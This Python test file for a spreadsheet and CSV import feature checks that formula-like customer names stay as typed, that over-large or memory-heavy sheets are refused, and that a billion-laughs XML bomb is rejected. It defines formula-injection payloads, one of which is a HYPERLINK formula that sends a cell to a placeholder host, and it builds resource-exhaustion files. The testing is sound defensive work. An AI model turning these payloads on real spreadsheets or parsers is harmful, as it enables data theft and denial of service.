"""Issue 23, item 6: "Imports keep such text as typed. Excel import reads in streaming mode and
refuses an over-large sheet with the row count in the message (a 168 KB file of 20,000 sparse
rows took 2.66 GB and 17 s today); install ``defusedxml``, which openpyxl uses against XML bombs."
"""

from __future__ import annotations

import re
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import select

from app.context import AppContext
from domain.errors import ValidationError
from domain.model import Customer
from domain.model.masterdata import PartPrice
from domain.roles import Actor
from domain.services.registry import Services
from domain.services.sheet_rows import MAX_ROWS, TOO_MANY_ROWS
from reports.safe_cells import put_cell
from tests.unit.test_customer_import import make_vin

FORMULA_NAMES = ['=HYPERLINK("http://x?d="&E2,"点我")', "+1 张三", "-李四", "@SUM(A1)", "=1+1"]


def _xlsx(path: Path, rows: list[list[object]], title: str = "Sheet") -> Path:
    """A workbook whose text cells are text (as Excel saves a name someone typed after a quote)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            if value is not None:
                put_cell(sheet, r, c, value)
    book.save(path)
    return path


def _without_dimension(path: Path) -> Path:
    """The same file with each sheet's <dimension> removed (files from other tools lack it)."""
    out = path.with_name("nodim-" + path.name)
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                data = re.sub(rb"<dimension [^>]*/>", b"", data)
            dst.writestr(item, data)
    return out


def test_openpyxl_parses_with_defusedxml() -> None:
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML


def test_customer_import_keeps_formula_like_names_as_typed(ctx: AppContext, services: Services,
                                                           admin: Actor, tmp_path: Path) -> None:
    rows: list[list[object]] = [["姓名", "手机号", "车牌号", "车架号"]]
    rows += [[name, f"1370000{i:04d}", f"京A1{i:04d}", make_vin(60 + i)]
             for i, name in enumerate(FORMULA_NAMES)]
    report = services.customer_import.run(admin, _xlsx(tmp_path / "客户.xlsx", rows))
    assert report.refused == () and report.imported == len(FORMULA_NAMES)
    with ctx.db.unit_of_work() as session:
        assert set(session.scalars(select(Customer.name))) >= set(FORMULA_NAMES)


def test_customer_csv_keeps_formula_like_names_as_typed(ctx: AppContext, services: Services,
                                                        admin: Actor, tmp_path: Path) -> None:
    path = tmp_path / "客户.csv"
    lines = ["姓名,手机号,车牌号,车架号"] + [
        '"{}",1380000{:04d},京B1{:04d},{}'.format(name.replace('"', '""'), i, i, make_vin(80 + i))
        for i, name in enumerate([*FORMULA_NAMES, "'=2+2"])]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8-sig")
    report = services.customer_import.run(admin, path)
    assert report.refused == ()
    with ctx.db.unit_of_work() as session:
        assert set(session.scalars(select(Customer.name))) >= {*FORMULA_NAMES, "'=2+2"}


def test_master_data_import_keeps_formula_like_names_as_typed(ctx: AppContext, services: Services,
                                                              admin: Actor, tmp_path: Path) -> None:
    path = _xlsx(tmp_path / "基础资料.xlsx", [["配件编号", "名称", "价格"]] + [
        [f"P-{i}", name, 10 + i] for i, name in enumerate(FORMULA_NAMES)], title="配件价格")
    report = services.master_data_import.run(admin, path)
    assert report.refused == ()
    with ctx.db.unit_of_work() as session:
        assert set(session.scalars(select(PartPrice.name))) >= set(FORMULA_NAMES)


def _huge(path: Path) -> Path:
    """A header, one row, and a last cell at row MAX_ROWS + 1: a tiny file of an over-large sheet."""
    rows: list[list[object]] = [["姓名", "手机号", "车牌号", "车架号"], ["张三", "13700001111", "京A00001", make_vin(1)]]
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "配件价格"
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            put_cell(sheet, r, c, value)
    put_cell(sheet, MAX_ROWS + 1, 1, "末行")
    book.save(path)
    return path


@pytest.mark.parametrize("declared", [True, False], ids=["dimension", "no-dimension"])
def test_an_over_large_sheet_is_refused_with_its_row_count(services: Services, admin: Actor,
                                                           tmp_path: Path, declared: bool) -> None:
    path = _huge(tmp_path / "list.xlsx")
    if not declared:
        path = _without_dimension(path)
    for read in (services.customer_import.preview, services.master_data_import.run):
        with pytest.raises(ValidationError) as info:
            read(admin, path)
        assert info.value.code == TOO_MANY_ROWS
        assert info.value.message("en").startswith("Sheet '")
        assert f"工作表“配件价格”有 {MAX_ROWS + 1} 行，超过上限 {MAX_ROWS} 行" in str(info.value)


def test_sparse_rows_far_right_are_read_in_fixed_memory(services: Services, admin: Actor,
                                                        tmp_path: Path) -> None:
    """20,000 rows each with one cell in column XFD: 2.66 GB before (every row padded to 16,384)."""
    small = _xlsx(tmp_path / "small.xlsx", [["姓名", "手机号", "车牌号", "车架号"],
                                            ["张三", "13700001111", "京A00001", make_vin(1)]])
    sparse = b"".join(b'<row r="%d"><c r="XFD%d" t="inlineStr"><is><t>x</t></is></c></row>' % (n, n)
                      for n in range(3, 20_003))
    path = tmp_path / "sparse.xlsx"
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD20002"', data)
                data = data.replace(b"</sheetData>", sparse + b"</sheetData>")
            dst.writestr(item, data)
    assert path.stat().st_size < 400_000
    tracemalloc.start()
    started = time.perf_counter()
    try:
        report = services.customer_import.preview(admin, path)
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert report.accepted == 1 and report.refused == ()
    assert peak < 60 * 2**20, peak  # 60 MB
    assert time.perf_counter() - started < 60


def test_an_xml_bomb_is_refused_as_unreadable(services: Services, admin: Actor, tmp_path: Path) -> None:
    """Entities in a sheet (billion laughs): defusedxml refuses them; the user sees one line."""
    small = _xlsx(tmp_path / "small.xlsx", [["姓名", "手机号", "车牌号", "车架号"]])
    bomb = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i else b"&lol;") * 10)
                       for i in range(1, 10))
            + b"]>")
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = bomb + re.sub(rb"^<\?xml[^>]*\?>", b"", data).replace(
                    b"<t>\xe5\xa7\x93\xe5\x90\x8d</t>", b"<t>&lol9;</t>")
            dst.writestr(item, data)
    for read in (services.customer_import.preview, services.master_data_import.run):
        with pytest.raises(ValidationError) as info:
            read(admin, path)
        assert info.value.code == "import.file_unreadable"
        assert "无法读取" in str(info.value)


def test_an_over_long_csv_is_refused_with_its_row_count(services: Services, admin: Actor,
                                                         tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("姓名,手机号,车牌号\n" + "张三,13700001111,京A00001\n" * MAX_ROWS, encoding="utf-8")
    with pytest.raises(ValidationError) as info:
        services.customer_import.preview(admin, path)
    assert info.value.code == TOO_MANY_ROWS
    assert f"文件“list.csv”有 {MAX_ROWS + 1} 行，超过上限 {MAX_ROWS} 行" in str(info.value)
